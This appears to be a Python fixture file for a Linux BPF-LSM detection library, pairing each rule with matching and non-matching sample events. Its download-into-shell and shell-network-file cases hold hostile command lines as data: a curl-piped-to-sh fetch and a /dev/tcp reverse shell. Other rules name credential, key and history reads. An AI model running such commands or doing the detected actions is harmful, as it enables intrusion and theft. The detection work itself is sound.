"""For each shipped rule, events that match it and events that do not: data for test_library.py."""

from __future__ import annotations

from typing import Any, Final

from bpf_lsm.observation import Flag, Type

Event = dict[str, Any]

PUBLIC, PRIVATE, HOME = bytes([93, 184, 216, 34]), bytes([10, 1, 2, 3]), bytes([127, 0, 0, 1])
LOCAL_V6, PUBLIC_V6 = b"\xfd" + bytes(15), b"\x2a\x00" + bytes(13) + b"\1"
MAPPED = bytes(10) + b"\xff\xff" + PRIVATE


def ran(exe: bytes, args: bytes = b"", parent: bytes = b"/usr/sbin/cron", **more: Any) -> Event:
    """An exec. `parent` is put in by a fork that the test makes before it."""
    return {"type": Type.EXEC, "exe": exe, "args": args, "parent": parent, **more}


def wrote(path: bytes, exe: bytes = b"/usr/bin/vim", how: int = 0o1101, **more: Any) -> Event:
    """An open for writing: to write, create and truncate if not said."""
    return {"type": Type.FILE_WRITE, "path": path, "exe": exe, "detail": how, **more}


def read(path: bytes, exe: bytes = b"/usr/bin/cat") -> Event:
    """An open for reading of a file that is watched."""
    return {"type": Type.FILE_OPEN, "path": path, "exe": exe}


def chmod(path: bytes, mode: int, exe: bytes = b"/usr/bin/chmod") -> Event:
    """A new mode."""
    return {"type": Type.FILE_CHMOD, "path": path, "detail": 0o100000 | mode, "exe": exe}


def deleted(path: bytes) -> Event:
    """An unlink."""
    return {"type": Type.FILE_DELETE, "path": path}


def renamed(old: bytes, new: bytes) -> Event:
    """A rename."""
    return {"type": Type.FILE_RENAME, "path": old, "path2": new}


def peer(address: bytes, port: int, kind: Type = Type.CONNECT, **more: Any) -> Event:
    """A connection, or another call that has a peer."""
    family = 4 if len(address) == 4 else 6
    return {"type": kind, "address": address, "port": port, "family": family, "protocol": 6, **more}


def unix(path: bytes) -> Event:
    """A connection to a unix socket."""
    return {"type": Type.CONNECT, "path": path, "family": 1}


def other(kind: Type, **more: Any) -> Event:
    """Any other event."""
    return {"type": kind, **more}


LS: Final = ran(b"/usr/bin/ls", b"ls\0-l")
NOTE: Final = wrote(b"/home/dev/notes.txt")
DPKG: Final = b"/usr/bin/dpkg"

CASES: Final[dict[str, tuple[list[Event], list[Event]]]] = {
    "exec-from-temp": (
        [ran(b"/tmp/x"), ran(b"/dev/shm/a/b"), ran(b"/TMP/x")],
        [LS, ran(b"/home/dev/tmp/x"), ran(b"/tmpfoo/x"), ran(b"/tmp/x", result=-13)],
    ),
    "script-from-temp": (
        [ran(b"/usr/bin/dash", path=b"/tmp/x.sh", flags=Flag.SCRIPT)],
        [
            ran(b"/usr/bin/dash", path=b"/usr/bin/x", flags=Flag.SCRIPT),
            ran(b"/usr/bin/dash", path=b"/tmp/x.sh"),
        ],
    ),
    "exec-nameless": (
        [ran(b"/memfd:x", path=b"/memfd:x", flags=Flag.EXE_DELETED)],
        [
            LS,
            ran(
                b"/memfd:runc_cloned:/proc/self/exe",
                path=b"/memfd:runc_cloned:/proc/self/exe",
                flags=Flag.EXE_DELETED,
            ),
        ],
    ),
    "exec-hidden": (
        [ran(b"/var/lib/.x/run"), ran(b"/usr/share/.cache")],
        [LS, ran(b"/home/dev/.cargo/bin/rustc"), ran(b"/usr/lib/a.b/c.d")],
    ),
    "exec-from-web-root": ([ran(b"/var/www/html/up/x")], [LS, ran(b"/var/wwwroot")]),
    "exec-traced": ([ran(b"/usr/bin/su", flags=Flag.UNSAFE_EXEC | Flag.SCRIPT)], [ran(b"/usr/bin/su")]),
    "shell-spawned": ([ran(b"/usr/bin/dash"), ran(b"/bin/busybox")], [LS, ran(b"/usr/bin/crash")]),
    "web-service-child": (
        [ran(b"/usr/bin/id", parent=b"/usr/sbin/nginx"), ran(b"/usr/bin/id", parent=b"/usr/sbin/php-fpm8.2")],
        [LS, ran(b"/usr/sbin/nginx", parent=b"/usr/sbin/nginx")],
    ),
    "inline-interpreter": (
        [ran(b"/usr/bin/python3.11", b"python3\0-c\0import os"), ran(b"/usr/bin/perl", b"perl\0-e\0print")],
        [ran(b"/usr/bin/python3.11", b"python3\0script.py"), ran(b"/usr/bin/ls", b"ls\0-c\0x")],
    ),
    "download-into-shell": (
        [
            ran(b"/usr/bin/bash", b"bash\0-c\0curl -s http://a.example/x | sh"),
            ran(b"/usr/bin/bash", b"sh\0-c\0$(curl https://a.example)"),
        ],
        [ran(b"/usr/bin/bash", b"bash\0-c\0curl http://a.example | tee sh.txt"), LS],
    ),
    "shell-network-file": (
        [ran(b"/usr/bin/bash", b"bash\0-c\0bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")],
        [ran(b"/usr/bin/bash", b"bash\0-c\0ls /dev/tty")],
    ),
    "cron-write": (
        [wrote(b"/etc/cron.d/x"), wrote(b"/var/spool/cron/crontabs/root")],
        [NOTE, wrote(b"/etc/cron.d/x", DPKG), wrote(b"/etc/cron.d/x", result=-13)],
    ),
    "unit-write": (
        [wrote(b"/etc/systemd/system/x.service"), wrote(b"/etc/systemd/system/x.service.d/o.conf")],
        [NOTE, wrote(b"/usr/lib/systemd/system/x.service", DPKG), wrote(b"/etc/systemd/system/readme")],
    ),
    "authorized-keys-write": (
        [wrote(b"/root/.ssh/authorized_keys"), wrote(b"/etc/ssh/authorized_keys.d/dev")],
        [wrote(b"/root/.ssh/known_hosts")],
    ),
    "shell-profile-write": ([wrote(b"/etc/profile.d/x.sh"), wrote(b"/home/dev/.bashrc")], [NOTE]),
    "loader-config-write": (
        [wrote(b"/etc/ld.so.preload"), wrote(b"/etc/ld.so.conf.d/x.conf")],
        [wrote(b"/etc/ld.so.cache"), wrote(b"/etc/ld.so.conf.d/x.conf", DPKG)],
    ),
    "boot-script-write": ([wrote(b"/etc/rc.local")], [NOTE, wrote(b"/etc/init.d/x", DPKG)]),
    "login-modules-write": (
        [wrote(b"/etc/pam.d/sshd"), wrote(b"/usr/lib/x86_64-linux-gnu/security/pam_unix.so")],
        [NOTE, wrote(b"/etc/pam.d/sshd", DPKG)],
    ),
    "udev-rule-write": ([wrote(b"/etc/udev/rules.d/99-x.rules")], [NOTE]),
    "accounts-changed": (
        [wrote(b"/etc/passwd"), renamed(b"/etc/shadow+", b"/etc/shadow")],
        [read(b"/etc/passwd"), renamed(b"/etc/shadow", b"/root/x"), wrote(b"/etc/passwd.bak")],
    ),
    "sshd-config-write": ([wrote(b"/etc/ssh/sshd_config.d/x.conf")], [wrote(b"/etc/ssh/ssh_config")]),
    "web-script-write": (
        [wrote(b"/var/www/html/x.php")],
        [wrote(b"/var/www/html/x.png"), wrote(b"/home/dev/x.php")],
    ),
    "port-opened": (
        [peer(bytes(4), 8080, Type.LISTEN)],
        [{"type": Type.LISTEN, "family": 1}, peer(bytes(4), 80, Type.LISTEN, result=-98)],
    ),
    "setid-made": (
        [chmod(b"/home/dev/x", 0o4755), chmod(b"/home/dev/x", 0o2755)],
        [chmod(b"/home/dev/x", 0o755), chmod(b"/usr/bin/sudo", 0o4755, DPKG), chmod(b"/var/mail", 0o2660)],
    ),
    "sudoers-write": ([wrote(b"/etc/sudoers.d/x")], [wrote(b"/etc/sudoers.d/x", DPKG)]),
    "became-root": (
        [other(Type.CREDENTIALS, uid=0, detail=1000)],
        [other(Type.CREDENTIALS, uid=33, detail=0), other(Type.CREDENTIALS, uid=0, detail=0)],
    ),
    "became-root-in-session": (
        [other(Type.CREDENTIALS, uid=0, detail=1000, login_uid=1000, exe=b"/home/dev/exploit")],
        [
            other(Type.CREDENTIALS, uid=0, detail=1000, login_uid=1000, exe=b"/usr/bin/sudo"),
            other(Type.CREDENTIALS, uid=0, detail=33, login_uid=0xFFFF_FFFF, exe=b"/usr/sbin/apache2"),
        ],
    ),
    "user-namespace": (
        [other(Type.FORK, target_pid=9, detail=0x1000_0011)],
        [other(Type.FORK, target_pid=9, detail=0x0120_0011)],
    ),
    "module-loaded": (
        [other(Type.MODULE, path=b"rk", detail=1)],
        [other(Type.MODULE, path=b"rk", result=-1)],
    ),
    "bpf-program-loaded": ([other(Type.BPF, detail=5, result=7)], [other(Type.BPF, detail=0, result=7)]),
    "mount-in-container": (
        [other(Type.MOUNT, path=b"/mnt", cgroup=77)],
        [other(Type.MOUNT, path=b"/mnt"), other(Type.MOUNT, path=b"/mnt", cgroup=77, result=-1)],
    ),
    "kernel-helper-write": (
        [wrote(b"/proc/sys/kernel/core_pattern"), wrote(b"/sys/fs/cgroup/rdma/release_agent")],
        [wrote(b"/proc/sys/kernel/sysrq")],
    ),
    "temp-write": (
        [wrote(b"/tmp/x"), other(Type.FILE_CREATE, path=b"/dev/shm/x", detail=0o100600)],
        [NOTE, read(b"/tmp/x")],
    ),
    "temp-write-hidden": (
        [wrote(b"/tmp/.x"), wrote(b"/var/tmp/.d/x")],
        [wrote(b"/tmp/x"), wrote(b"/tmp/.X0-lock")],
    ),
    "made-executable": ([chmod(b"/srv/x", 0o755), chmod(b"/srv/x", 0o701)], [chmod(b"/srv/x", 0o644)]),
    "temp-made-executable": ([chmod(b"/tmp/x", 0o700)], [chmod(b"/srv/x", 0o755), chmod(b"/tmp/x", 0o600)]),
    "memfd-created": (
        [other(Type.MEMFD, path=b"x")],
        [other(Type.MEMFD, path=b"runc_cloned:/proc/self/exe")],
    ),
    "log-deleted": (
        [deleted(b"/var/log/auth.log"), deleted(b"/var/log/wtmp")],
        [deleted(b"/var/log/auth.log.7.gz"), deleted(b"/srv/a.log")],
    ),
    "log-emptied": (
        [wrote(b"/var/log/auth.log")],
        [wrote(b"/var/log/auth.log", how=0o2001), wrote(b"/var/log/app/x.log")],
    ),
    "history-removed": (
        [deleted(b"/root/.bash_history"), wrote(b"/home/dev/.zsh_history")],
        [wrote(b"/root/.bash_history", how=0o2001), read(b"/root/.bash_history"), deleted(b"/root/x")],
    ),
    "audit-config-write": ([wrote(b"/etc/audit/rules.d/x.rules")], [NOTE, wrote(b"/etc/apparmor.d/x", DPKG)]),
    "gate-denied": (
        [other(Type.DENIAL, path=b"/etc/shadow", result=-13)],
        [other(Type.WOULD_DENY, path=b"/etc/shadow")],
    ),
    "mount-over": (
        [other(Type.MOUNT, path=b"/etc")],
        [other(Type.MOUNT, path=b"/mnt"), other(Type.MOUNT, path=b"/etc", result=-1)],
    ),
    "shadow-read": ([read(b"/etc/shadow", b"/usr/bin/sudo")], [read(b"/etc/passwd")]),
    "shadow-read-in-session": (
        [read(b"/etc/shadow", b"/usr/bin/cat")],
        [read(b"/etc/shadow", b"/usr/bin/sudo")],
    ),
    "private-key-read": (
        [
            read(b"/home/dev/.ssh/id_ed25519"),
            read(b"/etc/ssh/ssh_host_rsa_key"),
            read(b"/etc/ssl/private/a.key"),
        ],
        [read(b"/home/dev/.ssh/id_ed25519.pub"), read(b"/etc/ssh/ssh_host_rsa_key.pub")],
    ),
    "process-memory-read": (
        [
            read(b"/proc/12/mem"),
            wrote(b"/proc/12/mem"),
            read(b"/proc/12/task/13/mem"),
            other(Type.PTRACE, detail=258, target_pid=9),
        ],
        [
            read(b"/proc/meminfo"),
            read(b"/proc/12/maps"),
            other(Type.PTRACE, detail=2, target_pid=9),
            other(Type.PTRACE, detail=258, result=-1),
        ],
    ),
    "process-traced": (
        [other(Type.PTRACE, detail=2, target_pid=9), other(Type.PTRACE, detail=18, target_pid=9)],
        [
            other(Type.PTRACE, detail=17),
            other(Type.PTRACE, detail=2, result=-1),
            other(Type.PTRACE, detail=258, target_pid=9),
        ],
    ),
    "cloud-credentials-read": (
        [
            read(b"/root/.aws/credentials"),
            read(b"/run/secrets/kubernetes.io/serviceaccount/..2026_11_25/token"),
        ],
        [read(b"/root/.aws/config")],
    ),
    "environment-read": ([read(b"/proc/1/environ")], [read(b"/proc/1/cmdline")]),
    "history-read": (
        [read(b"/root/.bash_history")],
        [read(b"/root/.bash_history", b"/usr/bin/bash"), read(b"/root/x")],
    ),
    "keyboard-read": (
        [read(b"/dev/input/event0")],
        [read(b"/dev/input/event0", b"/usr/lib/systemd/systemd-logind")],
    ),
    "config-read": (
        [read(b"/etc/nginx/nginx.conf"), read(b"/etc/ssh/sshd_config")],
        [read(b"/etc/passwd"), read(b"/srv/etc/x")],
    ),
    "accounts-read": ([read(b"/etc/passwd"), read(b"/etc/group")], [read(b"/etc/passwd-")]),
    "known-hosts-read": ([read(b"/home/dev/.ssh/known_hosts")], [read(b"/home/dev/.ssh/config")]),
    "ssh-client-config-read": ([read(b"/home/dev/.ssh/config")], [read(b"/etc/ssh/ssh_config")]),
    "hosts-read": ([read(b"/etc/hosts")], [read(b"/etc/hostname")]),
    "network-state-read": (
        [read(b"/proc/12/net/tcp"), read(b"/proc/net/route")],
        [read(b"/proc/net/pnp"), read(b"/proc/12/netx/tcp")],
    ),
    "process-list-read": ([read(b"/proc/7/cmdline")], [read(b"/proc/cmdline"), read(b"/proc/7/environ")]),
    "host-facts-read": (
        [read(b"/etc/os-release"), read(b"/sys/devices/virtual/dmi/id/product_name")],
        [read(b"/etc/hosts")],
    ),
    "internal-connect": (
        [peer(PRIVATE, 5432), peer(LOCAL_V6, 80), peer(MAPPED, 80), peer(PRIVATE, 80, result=-115)],
        [peer(HOME, 80), peer(PUBLIC, 80), peer(PRIVATE, 80, Type.ACCEPT)],
    ),
    "ssh-outbound": (
        [peer(PRIVATE, 22), peer(PUBLIC, 22)],
        [peer(HOME, 22), peer(PRIVATE, 2222), peer(PRIVATE, 22, Type.ACCEPT)],
    ),
    "management-port-connect": ([peer(PRIVATE, 445)], [peer(HOME, 445), peer(PRIVATE, 443)]),
    "container-socket-connect": ([unix(b"/run/docker.sock")], [unix(b"/run/dockerx.sock")]),
    "agent-socket-connect": ([unix(b"/tmp/ssh-Xa1/agent.99")], [unix(b"/tmp/ssh/agent")]),
    "database-file-read": (
        [read(b"/var/lib/mysql/ibdata1")],
        [
            read(b"/var/lib/postgresql/15/main/base/1", b"/usr/lib/postgresql/15/bin/postgres"),
            read(b"/var/lib/x"),
        ],
    ),
    "archive-in-temp": (
        [wrote(b"/tmp/a.tar.gz"), wrote(b"/dev/shm/x.zip")],
        [wrote(b"/tmp/a.txt"), wrote(b"/srv/a.zip")],
    ),
    "mail-read": ([read(b"/var/mail/dev")], [read(b"/var/mailx")]),
    "outbound-connect": (
        [peer(PUBLIC, 443), peer(PUBLIC_V6, 443), peer(PUBLIC, 53, Type.SENDTO)],
        [peer(PRIVATE, 443), peer(HOME, 443), unix(b"/run/x"), peer(PUBLIC, 443, Type.ACCEPT)],
    ),
    "unusual-port-connect": ([peer(PUBLIC, 4444)], [peer(PUBLIC, 443), peer(PRIVATE, 4444)]),
    "anonymiser-connect": ([peer(PUBLIC, 9001), peer(HOME, 9050)], [peer(PUBLIC, 9000)]),
    "raw-socket-opened": ([other(Type.RAW_SOCKET, detail=2 << 16 | 3)], [other(Type.RAW_SOCKET, result=-1)]),
    "dns-outside": (
        [peer(PUBLIC, 53, Type.SENDTO), peer(PUBLIC, 53)],
        [peer(PRIVATE, 53), peer(PUBLIC, 443)],
    ),
    "mail-outside": ([peer(PUBLIC, 587)], [peer(PRIVATE, 25), peer(PUBLIC, 80)]),
    "datagram-outside": (
        [peer(PUBLIC, 5000, Type.SENDTO)],
        [peer(PUBLIC, 53, Type.SENDTO), peer(PUBLIC, 5000), peer(PRIVATE, 5000, Type.SENDTO)],
    ),
    "removable-media-write": ([wrote(b"/media/usb/x")], [NOTE]),
    "boot-file-write": ([wrote(b"/boot/vmlinuz")], [wrote(b"/boot/vmlinuz", DPKG), NOTE]),
    "ransom-note": (
        [wrote(b"/srv/HOW_TO_DECRYPT.txt"), wrote(b"/srv/restore your files.html")],
        [wrote(b"/srv/README.txt")],
    ),
    "encrypted-name": ([renamed(b"/srv/a", b"/srv/a.locked")], [renamed(b"/srv/a.locked", b"/srv/a")]),
    "disk-write": (
        [wrote(b"/dev/sda"), wrote(b"/dev/nvme0n1p2")],
        [wrote(b"/dev/null"), wrote(b"/dev/sda", b"/usr/sbin/fsck.ext4")],
    ),
    "mining-port-connect": ([peer(PUBLIC, 14444)], [peer(PRIVATE, 14444), peer(PUBLIC, 443)]),
    "foreign-kill": (
        [other(Type.KILL, detail=9, target_pid=4, exe=b"/usr/bin/kill")],
        [
            other(Type.KILL, detail=10, target_pid=4),
            other(Type.KILL, detail=9, exe=b"/usr/lib/systemd/systemd"),
        ],
    ),
}
